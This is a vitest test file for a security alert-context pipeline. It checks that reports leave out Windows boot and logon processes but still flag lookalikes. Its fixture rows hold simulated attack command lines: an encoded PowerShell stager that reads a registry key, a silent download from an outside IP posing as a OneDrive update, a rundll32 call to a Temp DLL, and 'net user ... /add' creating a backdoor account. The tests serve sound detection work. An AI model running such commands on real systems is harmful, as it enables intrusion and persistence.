import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_THRESHOLDS } from '../models/thresholds.js';
import { runNightly } from '../pipeline/jobs/nightly.js';
import { makeContextReports } from '../pipeline/context/make-reports.js';
import { readReports } from '../pipeline/context/read-reports.js';
import type { ReportRecord } from '../pipeline/context/read-reports.js';
import type { Database } from '../pipeline/db.js';
import { GENERATE_DEFAULTS, generateFleet } from '../pipeline/generate/generate-fleet.js';
import { memoryDb, tempDir } from './helpers.js';

const S = 'C:\\Windows\\System32';
const ndjson = (rows: unknown[]) => rows.map((r) => JSON.stringify(r)).join('\n') + '\n';

/**
 * The operating system's own processes (models/os-core.ts) on a fleet whose history holds no boot
 * and no logon chain: a Run-key stager at a user's logon, service hosts at boot. The boot chain and
 * the logon chain are never report lines, whatever the fleet's history says of them; a copy of one
 * elsewhere, one started by another parent (by path, not name), one without a recorded command line
 * and every service host are judged like any process.
 */
describe('context leaves out the operating system\'s own processes', () => {
  let reports: ReportRecord[];
  let db: Database;

  beforeAll(async () => {
    const fleet = tempDir();
    const m = await generateFleet({ ...GENERATE_DEFAULTS, hosts: 10, days: 5, out: fleet, attackRate: 0 });
    const day = m.days.at(-1)!;
    db = await memoryDb();
    for (const d of m.days.slice(0, -1)) await runNightly(db, { date: d, input: fleet, thresholds: DEFAULT_THRESHOLDS });
    const { host: wks } = await db.one<{ host: string }>(`SELECT min(host) AS host FROM process_events`);
    const { host: srv } = await db.one<{ host: string }>(`SELECT max(host) AS host FROM process_events`);
    const at = (t: string) => `${day}T${t}Z`;
    const rows: Record<string, unknown>[] = [];
    const p = (t: string, pid: number, ppid: number, image: string, parent: string, cmd: string, logon: string, user: string, host: string) =>
      rows.push({ event_id: `core-${rows.length + 1}`, ts: at(t), host, user_name: user, logon_id: logon, process_id: pid, image, command_line: cmd,
        parent_process_id: ppid, parent_image: parent });
    const erin = ['0x5e55', 'CONTOSO\\erin', wks] as const;
    // erin's logon: winlogon starts userinit, userinit the shell (and a copy of the shell from
    // elsewhere); a stager from a Run key starting its payload, which runs whoami; her notepad later
    p('10:00:00.500', 900, 600, `${S}\\userinit.exe`, `${S}\\winlogon.exe`, 'C:\\Windows\\system32\\userinit.exe', ...erin);
    p('10:00:01.000', 904, 900, 'C:\\Windows\\explorer.exe', `${S}\\userinit.exe`, 'C:\\Windows\\Explorer.EXE', ...erin);
    p('10:00:02.000', 908, 900, 'C:\\Users\\Public\\explorer.exe', `${S}\\userinit.exe`, 'C:\\Users\\Public\\explorer.exe', ...erin);
    // the window manager as recorded without its command line: path and parent alone do not make it the system's
    rows.push({ event_id: 'core-dwm', ts: at('10:00:00.700'), host: wks, user_name: 'CONTOSO\\erin', logon_id: '0x5e55', process_id: 902, image: `${S}\\dwm.exe`,
      parent_process_id: 600, parent_image: `${S}\\winlogon.exe` });
    p('10:00:08.000', 920, 904, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'C:\\Windows\\explorer.exe', 'powershell.exe -c "$x=(gp HKCU:Software\\Updater).Debug; powershell -enc $x"', ...erin);
    // a leaf the stager starts the same millisecond
    p('10:00:08.000', 922, 920, `${S}\\cmd.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'cmd.exe /c reg add HKCU\\Software\\Updater /v Debug /f', ...erin);
    p('10:00:09.000', 924, 920, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, 'powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AA==', ...erin);
    // what a clean install starts with the shell (the Windows Security tray icon, OneDrive's first-run
    // set-up and its copy for the user), what that set-up installs in her profile, a tray icon copied
    // into her profile and the set-up started with other arguments
    const W64 = 'C:\\Windows\\SysWOW64';
    p('10:00:03.000', 940, 904, `${S}\\SecurityHealthSystray.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\System32\\SecurityHealthSystray.exe" ', ...erin);
    p('10:00:03.500', 942, 904, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /thfirstsetup', ...erin);
    p('10:00:04.000', 944, 942, `${W64}\\OneDriveSetup.exe`, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\SysWOW64\\OneDriveSetup.exe /thfirstsetup  /peruser  /childprocess ', ...erin);
    p('10:00:30.000', 946, 944, 'C:\\Users\\erin\\AppData\\Local\\Microsoft\\OneDrive\\FileSyncConfig.exe', `${W64}\\OneDriveSetup.exe`,
      '"C:\\Users\\erin\\AppData\\Local\\Microsoft\\OneDrive\\FileSyncConfig.exe" ', ...erin);
    p('10:00:05.000', 948, 904, 'C:\\Users\\erin\\AppData\\Roaming\\SecurityHealthSystray.exe', 'C:\\Windows\\explorer.exe',
      '"C:\\Users\\erin\\AppData\\Roaming\\SecurityHealthSystray.exe" ', ...erin);
    p('10:03:00.000', 950, 904, `${W64}\\OneDriveSetup.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /silent /update http://203.0.113.9/od.exe', ...erin);
    p('10:04:00.000', 928, 904, `${S}\\notepad.exe`, 'C:\\Windows\\explorer.exe', '"C:\\Windows\\system32\\notepad.exe" C:\\Users\\erin\\Desktop\\plan.txt', ...erin);
    p('10:05:00.000', 932, 924, `${S}\\whoami.exe`, `${S}\\WindowsPowerShell\\v1.0\\powershell.exe`, '"C:\\Windows\\system32\\whoami.exe" /groups', ...erin);
    // the server's boot: the session manager, wininit, the service control manager, two service hosts:
    // a hijacked service's DLL starts rundll32, an intruder's own service group a program from ProgramData;
    // a fake winlogon starts the real userinit, which starts a shell
    const boot = ['0x3e7', 'NT AUTHORITY\\SYSTEM', srv] as const;
    p('09:58:00.000', 300, 4, `${S}\\smss.exe`, 'System', '\\SystemRoot\\System32\\smss.exe', ...boot);
    p('09:58:01.000', 400, 300, `${S}\\wininit.exe`, `${S}\\smss.exe`, 'wininit.exe', ...boot);
    p('09:58:02.000', 500, 400, `${S}\\services.exe`, `${S}\\wininit.exe`, 'C:\\Windows\\system32\\services.exe', ...boot);
    p('09:58:03.000', 520, 500, `${S}\\svchost.exe`, `${S}\\services.exe`, 'C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s UpdSvc', ...boot);
    p('09:58:04.000', 540, 500, `${S}\\svchost.exe`, `${S}\\services.exe`, 'C:\\Windows\\system32\\svchost.exe -k evilgrp', ...boot);
    p('09:58:10.000', 560, 520, `${S}\\rundll32.exe`, `${S}\\svchost.exe`, 'rundll32.exe C:\\Windows\\Temp\\upd.dll,Start', ...boot);
    p('09:58:20.000', 580, 540, 'C:\\ProgramData\\x7\\agent.exe', `${S}\\svchost.exe`, 'C:\\ProgramData\\x7\\agent.exe -Embedding', ...boot);
    p('09:59:00.000', 600, 500, 'C:\\ProgramData\\winlogon.exe', `${S}\\services.exe`, 'C:\\ProgramData\\winlogon.exe', ...boot);
    p('09:59:01.000', 604, 600, `${S}\\userinit.exe`, 'C:\\ProgramData\\winlogon.exe', 'C:\\Windows\\system32\\userinit.exe', ...boot);
    p('09:59:02.000', 608, 604, `${S}\\cmd.exe`, `${S}\\userinit.exe`, 'cmd.exe /c net user support P@ss1 /add', ...boot);
    const alerts = [
      { alert_id: 'core-runkey', ts: at('10:05:01'), alert_name: 'Encoded PowerShell', severity: 'High', host: wks, user_name: 'erin', logon_id: '0x5e55', process_id: 924 },
      { alert_id: 'core-servicedll', ts: at('09:58:11'), alert_name: 'Rundll32 from a service host', severity: 'High', host: srv, process_id: 560 },
      { alert_id: 'core-com', ts: at('09:58:21'), alert_name: 'COM server from ProgramData', severity: 'Medium', host: srv, process_id: 580 },
      { alert_id: 'core-fake', ts: at('09:59:03'), alert_name: 'Local account created', severity: 'High', host: srv, process_id: 608 },
    ];
    const dir = join(fleet, day, 'cases');
    mkdirSync(dir);
    writeFileSync(join(dir, 'process_events.ndjson'), ndjson(rows));
    writeFileSync(join(dir, 'alerts.ndjson'), ndjson(alerts));
    await runNightly(db, { date: day, input: fleet, thresholds: DEFAULT_THRESHOLDS });
    const run = await makeContextReports(db, day, day, DEFAULT_THRESHOLDS);
    reports = await readReports(db, run.runId);
  });

  const report = (id: string) => reports.find((r) => r.alert_id === id)!;
  const lines = (r: ReportRecord) => r.items.map((i) => i.command_line ?? '');
  const item = (r: ReportRecord, needle: string) => r.items.find((i) => (i.command_line ?? '').includes(needle));

  it('never lists the logon chain, however new to the fleet; a copy of it elsewhere is judged', async () => {
    const r = report('core-runkey');
    expect(r).toBeDefined();
    // the fleet's history has never seen userinit.exe: without the reference it was a line of every such report
    const { n } = await db.one<{ n: number }>(`SELECT count(*)::INTEGER AS n FROM process_events WHERE process_name = 'userinit.exe' AND ts < $1::TIMESTAMP::DATE`, [r.alert_time]);
    expect(n).toBe(0);
    expect(lines(r)).not.toContain('C:\\Windows\\system32\\userinit.exe');
    expect(lines(r)).not.toContain('C:\\Windows\\Explorer.EXE');
    expect(item(r, 'Public\\explorer.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; template on 0 of 10 hosts/);
    expect(item(r, 'gp HKCU:Software\\Updater')!.reason).toMatch(/^parent of the alert process; /);
    expect(item(r, '-enc SQBFAFgA')!.reason).toMatch(/^the alert process; /);
    expect(item(r, 'whoami.exe" /groups')!.reason).toMatch(/^child of the alert process; /);
  });

  it('judges what it cannot tell is the system\'s own: a copy, another parent, no command line', () => {
    const r = report('core-runkey');
    expect(item(r, 'reg add HKCU\\Software\\Updater')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
    expect(item(r, 'notepad.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
    expect(r.items.find((i) => i.event_ids.includes('core-dwm'))!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
    // the real userinit.exe, started by a winlogon.exe that is not the system's
    const fake = report('core-fake');
    expect(fake).toBeDefined();
    expect(item(fake, 'system32\\userinit.exe')!.reason).toMatch(/^parent of the alert process; /);
    expect(item(fake, 'ProgramData\\winlogon.exe')!.reason).toMatch(/^ancestor of the alert process; /);
  });

  it('never lists what a clean install starts with the shell; a copy, other arguments and what it installs in the profile are judged', () => {
    const r = report('core-runkey');
    expect(lines(r)).not.toContain('"C:\\Windows\\System32\\SecurityHealthSystray.exe" ');
    expect(lines(r)).not.toContain('"C:\\Windows\\SysWOW64\\OneDriveSetup.exe" /thfirstsetup');
    expect(lines(r).filter((l) => l.includes('/childprocess'))).toEqual([]);
    expect(item(r, 'AppData\\Roaming\\SecurityHealthSystray.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; template on 0 of 10 hosts/);
    expect(item(r, 'OneDrive\\FileSyncConfig.exe')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
    expect(item(r, 'OneDriveSetup.exe" /silent /update')!.reason).toMatch(/^in the alert's logon session 0x5e55; /);
  });

  it('never lists the boot chain; every service host is judged like any process', () => {
    const dll = report('core-servicedll');
    expect(dll).toBeDefined();
    expect(lines(dll)).not.toContain('C:\\Windows\\system32\\services.exe');
    expect(item(dll, '-s UpdSvc')!.reason).toMatch(/^parent of the alert process; template on 0 of 10 hosts/);
    expect(item(dll, 'upd.dll,Start')!.reason).toMatch(/^the alert process; /);
    // an intruder's own service group: a service host is never taken for the system's
    const com = report('core-com');
    expect(com).toBeDefined();
    expect(lines(com)).not.toContain('C:\\Windows\\system32\\services.exe');
    expect(item(com, 'svchost.exe -k evilgrp')!.reason).toMatch(/^parent of the alert process; template on 0 of 10 hosts/);
  });
});
